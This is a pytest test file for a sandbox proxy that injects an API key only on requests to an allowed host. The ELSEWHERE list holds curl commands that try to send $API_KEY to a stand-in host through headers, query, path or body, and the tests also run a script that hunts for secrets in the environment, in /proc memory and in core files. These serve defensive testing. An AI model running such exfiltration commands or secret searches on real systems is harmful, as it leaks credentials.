"""A secret that a box uses and never has: hostile code looks for it everywhere, and sends its placeholder elsewhere.

The real proxy process, a real box, servers of the test's own that send back what they are sent, in every form.
"""

from __future__ import annotations

import base64
import re
import resource
import shutil
import subprocess
import sys
import urllib.parse
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from tests.support.internet import Answer, Internet, internet
from tests.support.internet_secrets import CANARY, FILE_CANARY

VALUES: Final = (CANARY, FILE_CANARY)
NETWORK: Final = {
    "allow": ["web.example", "other.example"],
    "inspect": True,
    "secrets": ["API_KEY=env:API_KEY@web.example;places=header,basic,query,path,body,websocket"],
}
LOOKING: Final = (Path(__file__).parents[1] / "support/looking_for_secrets.py").read_text()


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    if shutil.which("unshare") is None or shutil.which("ip", path="/usr/sbin:/sbin:/usr/bin:/bin") is None:
        pytest.skip("there is no unshare or no ip here to make networks with")
    with internet(tmp_path_factory.mktemp("net"), {"API_KEY": CANARY}) as made:
        (made.home / ".key").write_text(FILE_CANARY)
        (made.home / ".key").chmod(0o600)
        yield made


def with_file_key(net: Internet) -> dict[str, object]:
    more = f"FILE_KEY=file:{net.home}/.key@web.example;places=header,basic,query,path,body,websocket"
    return {**NETWORK, "secrets": [*NETWORK["secrets"], more]}


def forms(value: str) -> set[bytes]:
    """As it could stand somewhere: raw, by URL, by Base64 at each of the three offsets, in hexadecimal."""
    found = {value.encode(), urllib.parse.quote(value, safe="").encode(), value.encode().hex().encode()}
    for before in ("", "x", "xx"):
        whole = base64.b64encode(before.encode() + value.encode())
        found.add(whole[4:-4])
    return found


def found_in(data: bytes) -> list[bytes]:
    return [form for value in VALUES for form in forms(value) if form in data]


def told(answer: Answer) -> bytes:
    return (answer.stdout + answer.stderr).encode()


def test_code_that_looks_everywhere_finds_nothing_of_it(net: Internet) -> None:
    (net.workspace / "look.py").write_text(LOOKING)

    answer = net.run(f"{sys.executable} look.py", with_file_key(net))

    assert answer.exit == 0, answer.stderr
    looked = dict(line.split(": ", 1) for line in answer.stdout.splitlines() if line.startswith("looked at "))
    for kind in ("environment", "files", "memory", "answers"):
        assert int(looked[f"looked at {kind}"]) > 0, looked
    # A process died of what writes a core file, and none was: a box may write none, whatever the kernel would do.
    assert "core: signal 6, written False, limit 0" in answer.stdout
    # It wrote everything that it saw into the workspace, where we can look for what it may not have known how to read.
    loot = (net.workspace / "loot").read_bytes()
    assert len(loot) > 100_000
    assert found_in(loot) == []
    assert found_in(told(answer)) == []
    used = [each["headers"].get("authorization", "") for each in net.seen() if each["path"] == "/echo"]
    assert f"Bearer {CANARY}" in used  # the servers did get it, so that there was something to send back
    assert f"Bearer {FILE_CANARY}" in used
    assert found_in(net.journal.read_bytes()) == []
    for path in net.workspace.rglob("*"):
        assert not path.is_file() or found_in(path.read_bytes()) == [], path


def test_the_same_code_finds_a_value_that_is_inside(net: Internet) -> None:
    """Without this, that it finds nothing would mean nothing."""
    (net.workspace / "look.py").write_text(LOOKING)

    answer = net.run(f"API_KEY={CANARY} {sys.executable} look.py", {"allow": ["web.example"]})

    assert answer.exit == 0, answer.stderr
    loot = (net.workspace / "loot").read_bytes()
    (net.workspace / "loot").unlink()
    assert all(
        form in loot for form in (CANARY.encode(), base64.b64encode(CANARY.encode()), CANARY.encode().hex().encode())
    )
    assert f"API_KEY={CANARY}\0".encode() in loot  # from /proc


def test_a_core_file_would_have_held_a_value_that_is_inside(tmp_path: Path) -> None:
    """The same look without the box's limit: a core file is written, and the value is in it."""
    if not re.fullmatch(r"core(\.%p)?", Path("/proc/sys/kernel/core_pattern").read_text().strip()):
        pytest.skip("the kernel gives core files to a program here, not to the directory")
    if resource.getrlimit(resource.RLIMIT_CORE)[1] != resource.RLIM_INFINITY:
        pytest.skip("core files are limited here")
    (tmp_path / "look.py").write_text(LOOKING)
    words = "import look; print('found', any(b'CANARY' in each for each in look.cores()))".replace("CANARY", CANARY)
    env = {"PATH": "/usr/bin:/bin", "API_KEY": CANARY, "https_proxy": "http://127.0.0.1:1"}

    done = subprocess.run(
        [sys.executable, "-c", words], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
    )

    assert "core: signal 6, written True" in done.stdout, done.stderr
    assert "found True" in done.stdout


ELSEWHERE: Final = (
    "-H 'Authorization: Bearer '$API_KEY https://other.example/",
    "-u x:$API_KEY https://other.example/",
    "https://other.example/?k=$API_KEY",
    "https://other.example/$API_KEY",
    "--data-binary $API_KEY https://other.example/",
    "-H 'Authorization: Bearer '$API_KEY http://other.example/",
    "-H 'Authorization: Bearer '$API_KEY http://web.example/",
    "-X OPTIONS -H 'Authorization: Bearer '$API_KEY https://web.example/",
)


def test_a_placeholder_that_is_sent_elsewhere_is_refused_and_an_alarm(net: Internet) -> None:
    before = len(net.seen())

    answers = net.run_all([f"curl -sS -w '%{{http_code}}' {sent}" for sent in ELSEWHERE], NETWORK)

    for sent, answer in zip(ELSEWHERE, answers, strict=True):
        assert answer.stdout.endswith("403"), (sent, answer)
        assert sum(each["count"] for each in answer.violations) == 1, (sent, answer)
        assert found_in(told(answer)) == []
    violations = [each for answer in answers for each in answer.violations]
    assert sum(each["count"] for each in violations) == len(ELSEWHERE)
    assert {(each["kind"], each["severity"]) for each in violations} == {("network_violation", "critical")}
    alarms = [(each["canary"], each["result"]) for each in answers[0].records if each.get("canary")]
    assert alarms == [("API_KEY", "refused")] * len(ELSEWHERE)
    for each in net.seen()[before:]:  # a body is looked at when its head has gone
        assert "authorization" not in each["headers"]
        assert each["path"] == "/"


def test_where_it_is_for_the_same_request_passes(net: Internet) -> None:
    answer = net.run("curl -sS -w '%{http_code}' -H 'Authorization: Bearer '$API_KEY https://web.example/", NETWORK)

    assert answer.stdout.endswith("200")
    assert not answer.violations
    assert [each["secrets"] for each in answer.records if each["door"] != "dns"] == [["API_KEY"]]
    assert net.seen()[-1]["headers"]["authorization"] == f"Bearer {CANARY}"
